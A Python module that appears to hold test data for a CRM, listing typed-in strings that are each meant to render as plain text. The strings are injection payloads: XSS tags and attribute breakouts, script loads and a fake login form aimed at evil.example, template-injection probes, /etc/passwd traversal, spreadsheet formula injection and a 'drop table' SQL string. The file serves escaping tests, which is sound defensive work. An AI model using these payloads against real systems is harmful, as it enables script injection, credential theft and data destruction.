"""Texts that somebody typed into a CRM to see what happens; on a page each is a text and nothing else."""

from __future__ import annotations

TAGS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>", "<math><mi xlink:href=javascript:alert(1)>", "<object data=x>",
    "<embed src=x>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example'</style>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
    "<form action=//evil.example><button>Log in", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</bdi></td></tr></table><h1>gone</h1>", "</main></body></html>",
    "<!--", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE html>", "<plaintext>", "<xmp><script>alert(1)</script>", "<listing>", "<frameset onload=alert(1)>",
    "<dialog open>", "<portal src=//evil.example>", "<x onclick=alert(1) tabindex=1 id=x>", "<button form=logout>",
    "<bdi data-busy>", "<section data-live id=connections>", "<time datetime=x data-ago>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)" x="', "` onmouseover=alert(1) `", "x onmouseover=alert(1)", '"/><img src=x>', "\\\"><b>",
    '" style="position:fixed;inset:0', "&quot; onload=&quot;alert(1)", '"=alert(1)', "'-alert(1)-'", '";alert(1);//',
    "</a><a href='//evil.example'>", '" href="javascript:alert(1)',
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% for x in (1).__class__ %}", "{# gone #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "[[7*7]]", "%{7*7}", "{{constructor.constructor('alert(1)')()}}", "$(alert)",
    "%s%s%s%n", "%(name)s", "{0}", "{account}", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp;x&shy;y",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.example", "http://evil.example", "../../../../etc/passwd", "?page=2&sort=name", "#content", "file:///etc/passwd",
)  # fmt: skip
FORMULAS = ("=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)", "-1+1|cmd", "+1-1cmd")
LETTERS = (
    "مرحبا بالعالم", "שלום עולם", "\u2067turned\u2069", "Ünïcödé Ñame", "名前テスト", "👩‍👩‍👧‍👦 family", "Z̸͕̄ă̴̬l̸͓̈g̶̩̈o", "ﷺ",
    "O'Brien & Söhne", "Robert'); drop table leads;--", "NULL", "undefined", "[object Object]", "true",
)  # fmt: skip
HOSTILE = (*TAGS, *ATTRIBUTES, *TEMPLATES, *ADDRESSES, *FORMULAS, *LETTERS)
